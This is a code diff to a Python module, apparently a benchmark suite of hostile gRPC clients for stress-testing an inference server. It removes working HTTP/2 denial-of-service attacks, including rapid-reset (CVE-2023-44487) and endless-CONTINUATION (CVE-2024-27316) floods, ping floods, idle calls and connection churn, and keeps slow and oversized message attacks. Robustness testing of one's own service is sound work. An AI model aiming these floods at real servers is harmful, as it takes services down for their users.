@@ -1,5 +1,5 @@
-"""What hostile clients do on the gRPC port: frames of HTTP/2 that no client's library sends, without the token; and
-messages that become much larger than they are, with it."""
+"""What hostile clients do on the gRPC port: messages that do not end, without the token; with it, messages that become
+much larger than they are, and replies that are not read."""
 
 import asyncio
 import contextlib
@@ -9,10 +9,10 @@ import struct
 import grpc
 from tritonclient.grpc import service_pb2 as messages
 
-from benchmarks.serving.attacks import KEY, Attack, Target, again_and_again, connected, first_model, flood
+from benchmarks.serving.attacks import KEY, Attack, Target, again_and_again, connected, first_model
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
+_DATA, _HEADERS, _SETTINGS = 0, 1, 4
 _END_STREAM, _END_HEADERS = 1, 4
 _METHOD = "/inference.GRPCInferenceService/ModelInfer"
 HEALTH = "/grpc.health.v1.Health/Check"
@@ -66,47 +66,6 @@ async def half_probes(target: Target) -> None:
         heads = b"".join(frame(_HEADERS, _END_HEADERS, stream, head(HEALTH)) for stream in streams)
         writer.write(_HELLO + heads + b"".join(frame(_DATA, 0, stream, _BEGUN + b"x" * 600) for stream in streams))
         await asyncio.wait_for(reader.read(), max(0.1, target.until - asyncio.get_running_loop().time()))
-
-
-@again_and_again(8)
-async def resets(target: Target) -> None:
-    """Calls that are taken back at once, on and on (CVE-2023-44487)."""
-    async with connected(target, target.grpc_port) as (_, writer):
-        writer.write(_HELLO)
-        await flood(target, writer, _calls((_RESET, 0, struct.pack(">I", 8))))
-
-
-@again_and_again(8)
-async def continuations(target: Target) -> None:
-    """A head that never ends (CVE-2024-27316)."""
-    async with connected(target, target.grpc_port) as (_, writer):
-        writer.write(_HELLO + frame(_HEADERS, 0, 1, head()))
-        await flood(target, writer, frame(_CONTINUATION, 0, 1, b"\x00\x01a\x7f" + b"b" * 127) * 100)
-
-
-@again_and_again(40)
-async def pings(target: Target) -> None:
-    """Pings and settings whose answers are not read."""
-    async with connected(target, target.grpc_port) as (_, writer):
-        writer.transport.pause_reading()  # type: ignore[attr-defined]
-        writer.write(_HELLO)
-        await flood(target, writer, (frame(_PING, 0, 0, b"8 bytes!") + frame(_SETTINGS, 0, 0)) * 500)
-
-
-@again_and_again(200)
-async def idle_calls(target: Target) -> None:
-    """Connections that open a call and send nothing more."""
-    async with connected(target, target.grpc_port) as (reader, writer):
-        writer.write(_HELLO + frame(_HEADERS, _END_HEADERS, 1, head()))
-        await asyncio.wait_for(reader.read(), max(0.1, target.until - asyncio.get_running_loop().time()))
-
-
-@again_and_again(100)
-async def churn(target: Target) -> None:
-    """Connections that are left as soon as they are there."""
-    async with connected(target, target.grpc_port) as (_, writer):
-        writer.write(_HELLO)
-        await writer.drain()
 
 
 _BYTES = 400_000  # of a message
@@ -171,11 +130,6 @@ async def unread(target: Target) -> None:
 GRPC_ATTACKS: dict[str, Attack] = {
     "grpc-half-messages": half_messages,
     "grpc-half-probes": half_probes,
-    "grpc-resets": resets,
-    "grpc-continuations": continuations,
-    "grpc-pings": pings,
-    "grpc-idle-calls": idle_calls,
-    "grpc-churn": churn,
     "grpc-contents": contents,
     "grpc-unread": unread,
 }
